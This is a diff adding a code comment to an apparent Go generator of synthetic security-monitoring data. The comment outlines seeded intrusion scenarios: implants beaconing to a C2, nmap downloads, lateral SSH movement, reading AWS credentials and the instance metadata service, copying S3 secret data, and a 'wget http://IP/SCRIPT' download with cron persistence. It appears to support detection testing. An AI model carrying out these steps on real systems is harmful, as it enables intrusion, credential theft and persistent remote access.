@@ -1,5 +1,36 @@
 package gen
 
+// The scenarios, as placed by default (the seeds' own dates and ids; all in
+// the first organization, 5a8c4a54e11909bd290021ed, account 123456789012):
+//
+// seed000, 2020-02-14 from about 14:40 UTC, on b0f6bdb2-9904-11e9-b036-25972ec55a45
+// (Ubuntu 18.04): scp -t /tmp/ of implants named like sliver's (EXCITED_WHILE,
+// FRONT_RUN, UNUSUAL_COMB, SURROUNDING_LOCK) from an external IP, an ssh
+// session running them (each connects to one C2 IP on 443), wget of nmap from
+// GitHub (connections to 140.82.114.4 and 151.101.0.133, /tmp/nmap created),
+// /tmp/nmap scans, a second scp of /tmp/sliver and /tmp/sliver2, then C2
+// beacons every 7-22 minutes to the end of the window. On 2020-02-15 the first
+// host's private IP logs into the second and third hosts of the organization,
+// scp's the tools over and runs nmap and/or sliver there.
+//
+// seed001, 2020-09-17, on 436dd34c-f795-11ea-a752-21e3e3eb7c50 (i-08c9216f243e53fd4,
+// role ec2VpcRole): ssh login of ubuntu from an external IP at 1600362902289,
+// sudo su -, ls/cat of ~/.aws/credentials (no file events), curl of the
+// metadata service, apt-get install awscli, aws ec2 describe-instances and its
+// CloudTrail DescribeInstances (AssumedRole ec2VpcRole), ssh to the fifth host
+// (i-03128a5b8b894002a, role myS3Reader) whose login at 1600362974889 comes
+// from the first's private IP; there sudo, awscli, aws s3 ls (ListBuckets,
+// ListObjects) and aws s3 cp s3://omg-my-cookies/secret-data.txt (GetObject).
+//
+// seed003, 2020-09-17 from about 21:05 UTC, on the sixth host (Ubuntu 18.04):
+// ssh login from an external IP, uname -a, lscpu, ifconfig, cat /etc/passwd,
+// ls -la /var/mail, wget http://IP/SCRIPT, chmod +x, crontab -l | grep, and
+// crontab - (writes /var/spool/cron/crontabs/ubuntu); cron then runs the
+// script every five minutes, which calls back to the attacker's IP.
+//
+// With --start/--days the same scenarios sit relative to that window: seed000
+// on day days-3, seed001 (same time of day) and seed003 on the last day.
+
 import (
 	"math"
 	"math/rand/v2"
